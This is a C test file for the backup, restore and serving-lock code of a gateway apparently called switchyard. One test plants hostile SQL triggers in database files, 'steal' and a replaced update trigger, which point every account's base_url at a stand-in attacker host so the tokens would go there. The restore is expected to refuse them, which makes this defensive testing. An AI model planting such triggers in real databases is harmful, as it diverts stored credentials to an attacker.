/* test_store_backup.c: the online backup, the restore and the serving lock
 * (store_backup.c). */
#include "check.h"
#include "test_sql.h"
#include "store/store.h"
#include "store/store_backup.h"
#include <pthread.h>
#include <sqlite3.h>
#include <fcntl.h>
#include <stdint.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static char test_dir[64];
static int test_seq;

static const char *test_path(char *buf, size_t n, const char *what)
{
    snprintf(buf, n, "%s/%s%d.db", test_dir, what, ++test_seq);
    return buf;
}

/* A database with accounts a0..a<n-1> and one key, closed again. */
static void test_db_make(const char *path, int n)
{
    char err[256] = "";
    store *s = store_open(path, err, sizeof err);
    CHECK(s != NULL);
    for (int i = 0; s && i < n; i++) {
        char name[16];
        snprintf(name, sizeof name, "a%d", i);
        account_new a = {.name = name, .base_url = "https://api.example.com/v1", .token = "sk-test",
                         .max_concurrency = -1};
        CHECK_EQ_INT(store_account_add(s, &a, NULL, err, sizeof err), 0);
    }
    char key[64];
    if (s)
        CHECK_EQ_INT(store_key_add(s, "k", key, sizeof key, NULL, err, sizeof err), 0);
    store_close(s);
}

static int test_exists(const char *path, const char *suffix)
{
    char p[256];
    struct stat sb;
    snprintf(p, sizeof p, "%s%s", path, suffix);
    return stat(p, &sb) == 0;
}

static void test_write_file(const char *path, const char *text)
{
    FILE *f = fopen(path, "w");
    CHECK(f != NULL);
    if (f) {
        fputs(text, f);
        fclose(f);
    }
}

/* ---------- backup ---------- */

/* The gateway's writer, played by a thread committing one row at a time
 * on its own connection while the backup runs. */
typedef struct writer_arg {
    const char *path;
    volatile int stop;
    int commits;
} writer_arg;

static void *test_writer(void *p)
{
    writer_arg *w = p;
    sqlite3 *db = NULL;
    if (sqlite3_open_v2(w->path, &db, SQLITE_OPEN_READWRITE, NULL) != SQLITE_OK)
        return NULL;
    sqlite3_busy_timeout(db, 0); /* as the loop: a writer that would have to wait fails instead */
    while (!w->stop) {
        if (sqlite3_exec(db, "INSERT INTO filler(tag, pad) VALUES ('during', zeroblob(3000))", NULL, NULL, NULL) ==
            SQLITE_OK)
            w->commits++;
        usleep(200);
    }
    sqlite3_close(db);
    return NULL;
}

/* The copy is taken in one snapshot while another connection commits all
 * along (the gateway's writer never waits, the backup never restarts):
 * it holds every row committed before it began, opens clean, is 0600 and
 * leaves no temp file. */
static void test_backup_while_a_writer_commits_holds_everything_committed_before(void)
{
    char db[128], out[128], err[512] = "";
    test_path(db, sizeof db, "src");
    test_path(out, sizeof out, "copy");
    test_db_make(db, 3);
    /* about 20 backup steps of pages, so the writer commits between them */
    test_sql_exec_flags(db, "CREATE TABLE filler(id INTEGER PRIMARY KEY, tag TEXT, pad BLOB);"
                      "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 6000)"
                      " INSERT INTO filler(tag, pad) SELECT 'before', zeroblob(3000) FROM n;",
                        SQLITE_OPEN_CREATE);
    writer_arg w = {.path = db};
    pthread_t t;
    pthread_create(&t, NULL, test_writer, &w);
    while (w.commits < 5)
        usleep(1000);
    int before_backup = w.commits;
    mode_t old = umask(0);
    store_backup_info info;
    int rc = store_backup(db, out, 0, &info, err, sizeof err);
    umask(old);
    int during = w.commits - before_backup;
    w.stop = 1;
    pthread_join(t, NULL);
    if (rc != 0)
        fprintf(stderr, "  store_backup: %s\n", err);
    CHECK_EQ_INT(rc, 0);
    CHECK(info.pages > 2 * STORE_BACKUP_STEP_PAGES);
    CHECK(during > 0); /* the writer went on committing while the copy was made */
    CHECK_EQ_INT(info.accounts, 3);
    CHECK_EQ_INT(info.keys, 1);
    CHECK_EQ_INT(test_sql_int(out, "SELECT count(*) FROM filler WHERE tag = 'before'"), 6000);
    CHECK(test_sql_int(out, "SELECT count(*) FROM filler WHERE tag = 'during'") >= before_backup);
    CHECK_EQ_INT(test_sql_int(out, "SELECT count(*) FROM accounts"), 3);
    struct stat sb;
    CHECK(stat(out, &sb) == 0 && (sb.st_mode & 0777) == 0600);
    CHECK(!test_exists(out, ".tmp"));
    sqlite3 *c = NULL;
    sqlite3_stmt *st = NULL;
    CHECK(sqlite3_open_v2(out, &c, SQLITE_OPEN_READONLY, NULL) == SQLITE_OK &&
          sqlite3_prepare_v2(c, "PRAGMA integrity_check", -1, &st, NULL) == SQLITE_OK &&
          sqlite3_step(st) == SQLITE_ROW && strcmp((const char *)sqlite3_column_text(st, 0), "ok") == 0);
    sqlite3_finalize(st);
    sqlite3_close(c);
    /* the copy is a database switchyard opens as it is, once the test's own
     * filler table is gone (a table the schema does not define is refused) */
    test_sql_exec(out, "DROP TABLE filler");
    store *s = store_open(out, err, sizeof err);
    CHECK(s != NULL);
    store_close(s);
}

/* An existing file is kept unless force; the database itself never is a
 * target; a missing database is an error, not an empty copy. */
static void test_backup_refuses_an_existing_file_unless_forced(void)
{
    char db[128], out[128], err[512] = "";
    test_path(db, sizeof db, "src");
    test_path(out, sizeof out, "copy");
    test_db_make(db, 1);
    test_write_file(out, "keep me");
    CHECK_EQ_INT(store_backup(db, out, 0, NULL, err, sizeof err), -1);
    CHECK(strstr(err, "exists: give another name, or --force") != NULL);
    CHECK_EQ_INT(test_sql_int(out, "SELECT count(*) FROM accounts"), -999); /* still "keep me" */
    CHECK_EQ_INT(store_backup(db, out, 1, NULL, err, sizeof err), 0);
    CHECK_EQ_INT(test_sql_int(out, "SELECT count(*) FROM accounts"), 1);
    CHECK_EQ_INT(store_backup(db, db, 1, NULL, err, sizeof err), -1);
    CHECK(strstr(err, "is the database itself") != NULL);
    CHECK_EQ_INT(test_sql_int(db, "SELECT count(*) FROM accounts"), 1);
    char missing[160];
    snprintf(missing, sizeof missing, "%s/none.db", test_dir);
    CHECK_EQ_INT(store_backup(missing, out, 1, NULL, err, sizeof err), -1);
    CHECK(!test_exists(missing, ""));
}

/* ---------- restore ---------- */

/* A child process that holds the serving lock as `switchyard serve` does
 * until told to go; returns its pid (the pipe's write end in *go). */
static pid_t test_serving_child(const char *db, int *go)
{
    int ready[2], release[2];
    if (pipe(ready) != 0 || pipe(release) != 0)
        return -1;
    pid_t pid = fork();
    if (pid == 0) {
        char err[256], c;
        close(release[1]); /* the parent's close then ends the read below */
        int fd = store_serving_lock(db, 1, err, sizeof err);
        c = fd >= 0 ? 'y' : 'n';
        if (write(ready[1], &c, 1) != 1 || read(release[0], &c, 1) < 0)
            _exit(2);
        _exit(0);
    }
    char c = 'n';
    if (read(ready[0], &c, 1) != 1 || c != 'y')
        pid = -1;
    close(ready[0]), close(ready[1]), close(release[0]);
    *go = release[1];
    return pid;
}

/* While a gateway holds the serving lock the restore refuses, naming it,
 * and changes nothing; once it is gone the restore goes through. */
static void test_restore_is_refused_while_a_gateway_serves(void)
{
    char db[128], copy[128], err[512] = "";
    test_path(db, sizeof db, "live");
    test_path(copy, sizeof copy, "copy");
    test_db_make(db, 2);
    test_db_make(copy, 5);
    int go = -1;
    pid_t pid = test_serving_child(db, &go);
    CHECK(pid > 0);
    CHECK_EQ_INT(store_serving_pid(db, err, sizeof err), pid);
    CHECK_EQ_INT(store_restore(copy, db, NULL, err, sizeof err), -1);
    char want[256];
    snprintf(want, sizeof want, "a gateway is serving %s (pid %d)", db, (int)pid);
    CHECK(strstr(err, want) != NULL);
    CHECK_EQ_INT(test_sql_int(db, "SELECT count(*) FROM accounts"), 2);
    CHECK(!test_exists(db, STORE_BEFORE_RESTORE_SUFFIX));
    close(go);
    waitpid(pid, NULL, 0);
    CHECK_EQ_INT(store_serving_pid(db, err, sizeof err), 0);
    CHECK_EQ_INT(store_restore(copy, db, NULL, err, sizeof err), 0);
    CHECK_EQ_INT(test_sql_int(db, "SELECT count(*) FROM accounts"), 5);
}

/* A restore that made <db>.serving removes it as it finishes (issue 34:
 * no stray file after a restore into a new path); a gateway that was
 * waiting on that file meanwhile must end up holding the lock on the file
 * that is there, or the next restore would not see it serving. */
static void test_a_gateway_waiting_on_a_removed_lock_file_locks_the_new_one(void)
{
    char db[128], lockp[160], err[512] = "";
    test_path(db, sizeof db, "waited");
    snprintf(lockp, sizeof lockp, "%s%s", db, STORE_SERVING_SUFFIX);
    int fd = open(lockp, O_RDWR | O_CREAT, 0600); /* the restore's write lock */
    struct flock fl = {.l_type = F_WRLCK, .l_whence = SEEK_SET};
    CHECK(fd >= 0 && fcntl(fd, F_SETLK, &fl) == 0);
    int ready[2], release[2];
    CHECK(pipe(ready) == 0 && pipe(release) == 0);
    pid_t pid = fork();
    if (pid == 0) {
        char c;
        close(release[1]);
        int lk = store_serving_lock(db, 5, err, sizeof err);
        struct stat sb;
        c = lk >= 0 && fstat(lk, &sb) == 0 && sb.st_nlink == 1 ? 'y' : 'n';
        if (write(ready[1], &c, 1) != 1 || read(release[0], &c, 1) < 0)
            _exit(2);
        _exit(0);
    }
    usleep(200 * 1000); /* the child is waiting on the lock */
    unlink(lockp);
    close(fd); /* the restore is done */
    char c = 'n';
    CHECK(read(ready[0], &c, 1) == 1);
    CHECK(c == 'y');
    CHECK_EQ_INT(store_serving_pid(db, err, sizeof err), pid);
    close(release[1]);
    waitpid(pid, NULL, 0);
    close(ready[0]), close(ready[1]), close(release[0]);
}

/* What is not a switchyard database this build can open is refused before
 * anything is touched: not SQLite, a damaged file, another SQLite
 * database, a newer schema. */
static void test_restore_checks_the_file_first(void)
{
    char db[128], bad[128], err[512] = "";
    test_path(db, sizeof db, "live");
    test_db_make(db, 2);
    struct {
        const char *why;
        int kind;
    } cases[] = {{"is not a SQLite database", 0}, {"is not a SQLite database", 1},
                 {"is not a switchyard database", 2}, {"has schema version 999, newer than this build's", 3},
                 {"fails PRAGMA integrity_check", 4}};
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        test_path(bad, sizeof bad, "bad");
        if (cases[i].kind == 0) {
            test_write_file(bad, "{\"format\": \"switchyard.accounts\"}\n");
        } else if (cases[i].kind == 1) { /* a database's first bytes and then garbage */
            test_db_make(bad, 1);
            FILE *f = fopen(bad, "r+");
            if (f) {
                fseek(f, 0, SEEK_SET);
                fputs("SQLite format 2\n", f); /* not the magic of format 3 */
                fclose(f);
            }
        } else if (cases[i].kind == 2) {
            test_sql_exec_flags(bad, "CREATE TABLE notes(x)", SQLITE_OPEN_CREATE);
        } else if (cases[i].kind == 3) {
            test_db_make(bad, 1);
            test_sql_exec_flags(bad, "INSERT INTO schema_migrations(version, applied_at) VALUES (999, 0)", SQLITE_OPEN_CREATE);
        } else { /* an index that disagrees with its table */
            test_db_make(bad, 1);
            test_sql_exec_flags(bad, "PRAGMA journal_mode=DELETE; CREATE TABLE t(x); CREATE INDEX t_x ON t(x);"
                               "INSERT INTO t VALUES (1), (2), (3);"
                               "PRAGMA writable_schema=ON;"
                               "UPDATE sqlite_schema SET sql = 'CREATE INDEX t_x ON t(x DESC)' WHERE name = 't_x';",
                               SQLITE_OPEN_CREATE);
        }
        int rc = store_restore(bad, db, NULL, err, sizeof err);
        CHECK_EQ_INT(rc, -1);
        if (!strstr(err, cases[i].why))
            fprintf(stderr, "  case %zu: got '%s'\n", i, err);
        CHECK(strstr(err, cases[i].why) != NULL);
        CHECK_EQ_INT(test_sql_int(db, "SELECT count(*) FROM accounts"), 2);
        CHECK(!test_exists(db, STORE_BEFORE_RESTORE_SUFFIX));
        CHECK(!test_exists(db, ".restore-tmp"));
    }
    CHECK_EQ_INT(store_restore(db, db, NULL, err, sizeof err), -1);
    CHECK(strstr(err, "is the database itself") != NULL);
}

/* A backup takes rows, not SQL: a file holding an object switchyard's
 * schema does not define (a trigger that would send every account's token
 * elsewhere, a slow one that would stall the writer, a view, an index, a
 * table), or one of its triggers with other SQL, is refused naming it, by
 * restore and by every open; the database there is left as it was. */
static void test_restore_refuses_sql_the_schema_does_not_define(void)
{
    char db[128], bad[128], err[512] = "";
    test_path(db, sizeof db, "live");
    test_db_make(db, 2);
    static const struct {
        const char *sql, *named;
    } cases[] = {
        {"CREATE TRIGGER steal AFTER INSERT ON request_logs BEGIN"
         " UPDATE accounts SET base_url = 'http://attacker.example/v1'; END;", "trigger steal"},
        {"CREATE VIEW tokens AS SELECT token FROM accounts;", "view tokens"},
        {"CREATE INDEX accounts_token ON accounts(token);", "index accounts_token"},
        {"CREATE TABLE notes(x);", "table notes"},
        /* one of ours, its body replaced */
        {"DROP TRIGGER accounts_update_bump; CREATE TRIGGER accounts_update_bump AFTER UPDATE ON accounts BEGIN"
         " UPDATE accounts SET base_url = 'http://attacker.example/v1' WHERE base_url != 'http://attacker.example/v1';"
         " END;", "trigger accounts_update_bump"},
    };
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        test_path(bad, sizeof bad, "bad");
        test_db_make(bad, 1);
        test_sql_exec_flags(bad, cases[i].sql, 0);
        CHECK_EQ_INT(store_restore(bad, db, NULL, err, sizeof err), -1);
        if (!strstr(err, cases[i].named))
            fprintf(stderr, "  case %zu: got '%s'\n", i, err);
        CHECK(strstr(err, cases[i].named) != NULL);
        CHECK(strstr(err, "does not define") != NULL);
        CHECK_EQ_INT(test_sql_int(db, "SELECT count(*) FROM accounts WHERE base_url LIKE '%attacker%'"), 0);
        CHECK(!test_exists(db, STORE_BEFORE_RESTORE_SUFFIX));
        store *s = store_open(bad, err, sizeof err); /* nor is such a file opened */
        CHECK(s == NULL);
        CHECK(strstr(err, cases[i].named) != NULL);
        store_close(s);
    }
}

/* The database there before is kept whole as .before-restore, its WAL
 * with it (rows still only in the WAL are not lost, and are not played into
 * the restored database); the restored copy opens and holds the copy's rows. */
static void test_restore_keeps_the_previous_database_with_its_wal(void)
{
    char db[128], copy[128], before[160], err[512] = "";
    test_path(db, sizeof db, "live");
    test_path(copy, sizeof copy, "copy");
    test_db_make(db, 2);
    test_db_make(copy, 4);
    pid_t pid = fork(); /* a gateway killed with rows still in its WAL */
    if (pid == 0) {
        sqlite3 *c = NULL;
        sqlite3_open_v2(db, &c, SQLITE_OPEN_READWRITE, NULL);
        sqlite3_exec(c, "PRAGMA wal_autocheckpoint=0; INSERT INTO settings(key, value, updated_at) VALUES ('only', 'in-wal', 0)",
                     NULL, NULL, NULL);
        _exit(0); /* no close: no checkpoint */
    }
    waitpid(pid, NULL, 0);
    char wal[160];
    struct stat sb;
    snprintf(wal, sizeof wal, "%s-wal", db);
    CHECK(stat(wal, &sb) == 0 && sb.st_size > 0); /* the row is in the WAL only */
    store_backup_info info;
    CHECK_EQ_INT(store_restore(copy, db, &info, err, sizeof err), 0);
    CHECK_EQ_INT(info.accounts, 4);
    snprintf(before, sizeof before, "%s%s", db, STORE_BEFORE_RESTORE_SUFFIX);
    CHECK(!test_exists(db, "-wal") && !test_exists(db, "-shm"));
    CHECK_EQ_INT(test_sql_int(db, "SELECT count(*) FROM accounts"), 4);
    CHECK_EQ_INT(test_sql_int(db, "SELECT count(*) FROM settings WHERE key = 'only'"), 0);
    CHECK_EQ_INT(test_sql_int(before, "SELECT count(*) FROM accounts"), 2);
    CHECK_EQ_INT(test_sql_int(before, "SELECT count(*) FROM settings WHERE key = 'only'"), 1);
    CHECK(stat(db, &sb) == 0 && (sb.st_mode & 0777) == 0600);
    CHECK(test_exists(copy, "")); /* the file restored from is only read */
    CHECK(!test_exists(db, ".restore-tmp"));
    char fresh[160]; /* into a path with no database yet */
    snprintf(fresh, sizeof fresh, "%s/fresh.db", test_dir);
    CHECK_EQ_INT(store_restore(copy, fresh, NULL, err, sizeof err), 0);
    CHECK_EQ_INT(test_sql_int(fresh, "SELECT count(*) FROM accounts"), 4);
    CHECK(!test_exists(fresh, STORE_BEFORE_RESTORE_SUFFIX));
}

/* A file whose newest commits are still in its -wal (copied off a
 * database something had open) is restored with them. */
static void test_restore_takes_the_commits_in_the_wal_beside_the_file(void)
{
    char db[128], copy[128], wal[160], err[512] = "";
    test_path(db, sizeof db, "live");
    test_path(copy, sizeof copy, "copy");
    test_db_make(db, 1);
    test_db_make(copy, 1);
    pid_t pid = fork();
    if (pid == 0) {
        sqlite3 *c = NULL;
        sqlite3_open_v2(copy, &c, SQLITE_OPEN_READWRITE, NULL);
        sqlite3_exec(c, "PRAGMA wal_autocheckpoint=0; UPDATE accounts SET name = 'renamed-in-wal'", NULL, NULL, NULL);
        _exit(0); /* no close: no checkpoint */
    }
    waitpid(pid, NULL, 0);
    struct stat sb;
    snprintf(wal, sizeof wal, "%s-wal", copy);
    CHECK(stat(wal, &sb) == 0 && sb.st_size > 0);
    CHECK_EQ_INT(store_restore(copy, db, NULL, err, sizeof err), 0);
    CHECK(!test_exists(db, "-wal"));
    CHECK_EQ_INT(test_sql_int(db, "SELECT count(*) FROM accounts WHERE name = 'renamed-in-wal'"), 1);
}

int main(void)
{
    if (check_tmpdir_make(test_dir, sizeof test_dir, "sy_backup") != 0)
        return 2;
    RUN(test_backup_while_a_writer_commits_holds_everything_committed_before);
    RUN(test_backup_refuses_an_existing_file_unless_forced);
    RUN(test_restore_is_refused_while_a_gateway_serves);
    RUN(test_a_gateway_waiting_on_a_removed_lock_file_locks_the_new_one);
    RUN(test_restore_refuses_sql_the_schema_does_not_define);
    RUN(test_restore_checks_the_file_first);
    RUN(test_restore_keeps_the_previous_database_with_its_wal);
    RUN(test_restore_takes_the_commits_in_the_wal_beside_the_file);
    check_tmpdir_remove(test_dir);
    return check_summary();
}
